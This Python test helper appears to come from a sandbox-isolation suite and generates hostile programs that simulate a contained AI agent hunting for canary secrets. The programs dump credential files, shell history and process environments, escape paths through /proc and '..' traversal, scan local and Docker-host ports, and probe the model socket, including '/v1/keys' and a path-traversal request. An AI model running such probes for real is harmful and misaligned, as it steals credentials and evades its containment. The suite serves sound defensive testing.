"""Programs that run in a sandbox, read as much as they can within seconds and print everything that looks like a
canary.

They know more than a real attempt would: the host's paths and the services' ports.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

from tests.system.hostile.canaries import MARK


def search_program(paths: Sequence[str], ports: Sequence[int], sockets: Sequence[str]) -> str:
    given = f"PATHS, PORTS, SOCKETS, MARK = {list(paths)!r}, {list(ports)!r}, {list(sockets)!r}, rb{MARK!r}\n"
    return given + _SEARCH


def program_agent(search: str) -> str:
    """An agent that searches, sends forbidden requests to its model socket, and reports its findings to the model."""
    return search + _PROBE_MODEL_SOCKET


_SEARCH = r"""
import glob, json, os, re, socket, stat, subprocess, time
found, reached, files_read, until = set(), [], 0, time.process_time() + 1.5
def take(data):
    found.update(word.decode() for word in re.findall(MARK, data))
def look(path):
    global files_read
    take(os.fsencode(path))
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            if stat.S_ISREG(os.fstat(descriptor).st_mode):
                take(os.read(descriptor, 1 << 20))
                files_read += 1
        finally:
            os.close(descriptor)
    except OSError:
        pass
def walk(top, but=()):
    for folder, folders, files in os.walk(top):
        if time.process_time() > until:
            return
        folders[:] = [name for name in folders if os.path.join(folder, name) not in but]
        for name in files:
            look(os.path.join(folder, name))
take(repr(dict(os.environ)).encode())
walk('/', but=('/usr', '/bin', '/sbin', '/lib', '/lib64', '/proc', '/sys', '/dev/fd', '/opt/python'))
for name in ('environ', 'cmdline', 'mountinfo', 'mounts', 'maps', 'status', 'cgroup', 'comm', 'auxv', 'net/unix',
        'task/*/environ', 'fd/*', 'fdinfo/*', 'root/etc/*', 'root/root/*', 'cwd/*', 'map_files/*'):
    for path in glob.glob('/proc/[0-9]*/' + name) + glob.glob('/proc/self/' + name):
        look(path)
        try: take(os.fsencode(os.readlink(path)))
        except OSError: pass
for path in glob.glob('/proc/*'):
    look(path)
for path in PATHS:
    for reach in (path, '/proc/1/root' + path, '/proc/self/root' + path, '/workspace' + '/..' * 12 + path):
        look(reach)
        walk(reach)
def connected(family, address):
    with socket.socket(family) as one:
        one.settimeout(0.3)
        try:
            one.connect(address)
            one.sendall(b'GET / HTTP/1.0\r\n\r\n')
            reached.append(str(address))
            take(one.recv(65536))
        except OSError: pass
for port in PORTS:
    connected(socket.AF_INET, ('127.0.0.1', port))
    connected(socket.AF_INET, ('172.17.0.1', port))
for path in SOCKETS:
    connected(socket.AF_UNIX, path)
for command in ('git -C /workspace log -p --all', 'git config --list --show-origin', 'git -C / status', 'mount', 'set',
        'ps auxeww', 'cat ~/.*history ~/.netrc ~/.aws/* ~/.config/*/*',
        'ls -laR /home /root /tmp /var /run /srv /mnt | head -c 999999'):
    try:
        done = subprocess.run(['sh', '-c', command], capture_output=True, timeout=3)
        take(done.stdout + done.stderr)
    except (OSError, subprocess.TimeoutExpired): pass
result = json.dumps({'found': sorted(found), 'reached': reached, 'files_read': files_read})
print('FOUND ' + result)
"""
_PROBE_MODEL_SOCKET = r"""
import http.client
def request(method, path, body=None, headers=None, token=True):
    link = http.client.HTTPConnection('model')
    link.sock = socket.socket(socket.AF_UNIX)
    link.sock.connect(os.environ['ASSAY_MODEL_SOCKET'])
    given = {'Authorization': 'Bearer ' + os.environ['OPENAI_API_KEY']} if token else {}
    link.request(method, path, body, {**given, **(headers or {})})
    answer = link.getresponse()
    data = answer.read() + repr(answer.getheaders()).encode()
    take(data)
    return data
for path in ('/v1/models', '/v1/keys', '/metrics', '/v1/../../../etc/passwd', '/healthz', '/v1/organization', '/'):
    request('GET', path)
    request('GET', path, token=False)
request('TRACE', '/v1/chat/completions', '{}')
def chat(text, **more):
    body = {'model': os.environ['OPENAI_MODEL'], 'messages': [{'role': 'user', 'content': text}], **more}
    return request('POST', '/v1/chat/completions', json.dumps(body))
chat('hello', api_key='', base_url='http://127.0.0.1:1/', extra_headers={'X': 'y'}, model='other/model')
result = json.dumps({'found': sorted(found), 'reached': reached, 'files_read': files_read})
chat('FOUND ' + result, stream=True)
print('FOUND ' + result)
open('solution.py', 'w').write('def word():\n    return "found"\n')
"""


def search_results(text: str) -> list[dict[str, Any]]:
    """All results of search programs in a transcript or an output."""
    found: list[dict[str, Any]] = []
    for piece in text.split("FOUND ")[1:]:
        end = piece.find("}")
        if piece.startswith("{") and end > 0:
            found.append(json.loads(piece[: end + 1]))
    return found
